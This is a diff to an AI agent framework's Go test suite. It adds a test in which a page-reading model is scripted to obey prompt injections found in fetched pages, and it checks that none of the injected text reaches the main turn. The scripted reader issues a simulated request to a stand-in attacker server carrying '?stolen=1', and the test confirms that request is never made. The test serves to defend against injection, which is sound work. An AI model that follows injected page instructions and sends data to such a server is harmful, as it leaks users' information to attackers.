@@ -329,6 +329,61 @@ func TestInvariant06ObedientModel(t *testing.T) {
 	t.Logf("%d injections obeyed: %d calls held up, 0 made", n, asked)
 }
 
+// TestInvariant06ObedientReader: a reader that does whatever a page says can only
+// be refused: no word of the page reaches the turn, no call that it asks for is
+// made, and the turn goes on unasked.
+func TestInvariant06ObedientReader(t *testing.T) {
+	l := newLab(t)
+	l.good.pages = corpus(t, "inj")
+	find := []map[string]any{
+		{"name": "price", "kind": "number", "about": "what it costs"},
+		{"name": "there", "kind": "choice", "choices": []string{"yes", "no"}, "about": "whether it is there"},
+	}
+	for i, page := range l.good.pages {
+		link := fmt.Sprintf("%s/page/%d", l.good.URL, i)
+		turn := scripted(
+			one(use("http_request", map[string]any{"url": link, "find": find})),
+			func(told string) []agent.ToolCall {
+				return []agent.ToolCall{use("notes_write", map[string]any{"title": fmt.Sprint(i), "text": told})}
+			},
+		)
+		obey := func(r *agenttest.Request) agenttest.Answer {
+			if !strings.HasPrefix(r.System(), "You look things up") {
+				return turn(r)
+			}
+			evil := use("http_request", map[string]any{"url": l.evil.URL + "/?stolen=1"})
+			evil.ID = "c"
+			said, _ := json.Marshal(map[string]string{"price": page, "there": page})
+			return agenttest.Answer{Text: string(said), Calls: []agent.ToolCall{evil}}
+		}
+		p := &person{}
+		_, m := l.run(t, fmt.Sprint("r", i), "What does it cost at "+link+" ?", obey, p)
+		if len(p.asked) != 0 {
+			t.Fatalf("injection %d: the person was asked %+v", i, p.asked)
+		}
+		read := false
+		for _, r := range m.Requests() {
+			if strings.HasPrefix(r.System(), "You look things up") {
+				read = true
+				continue
+			}
+			if text := fmt.Sprint(r.Messages()); strings.Contains(text, page[:min(len(page), 60)]) {
+				t.Fatalf("injection %d: the turn's model is told of it: %s", i, text)
+			}
+		}
+		if !read {
+			t.Fatalf("injection %d: nobody read the page", i)
+		}
+	}
+	if got := l.evil.count(""); got != 0 {
+		t.Errorf("the attacker's server was reached %d times", got)
+	}
+	if rows, err := l.state.List(t.Context(), "note", "", "", 0); err != nil || len(rows) == 0 {
+		t.Errorf("%d notes, %v", len(rows), err)
+	}
+	t.Logf("%d pages read by a reader that obeys", len(l.good.pages))
+}
+
 // task is something that a person wants done.
 type task struct {
 	said   string
